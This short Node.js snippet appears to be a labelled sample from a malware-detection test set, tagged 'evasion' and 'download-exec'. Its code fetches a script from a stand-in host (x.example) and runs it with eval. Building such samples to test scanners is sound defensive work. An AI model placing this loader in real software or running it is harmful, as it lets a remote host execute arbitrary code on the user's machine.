// evasion: downloads code and evals it
// grade: easy; does: download-exec
const https = require("https");
https.get("https://x.example/p.js", (res) => {
  let body = "";
  res.on("data", (c) => (body += c));
  res.on("end", () => eval(body));
});
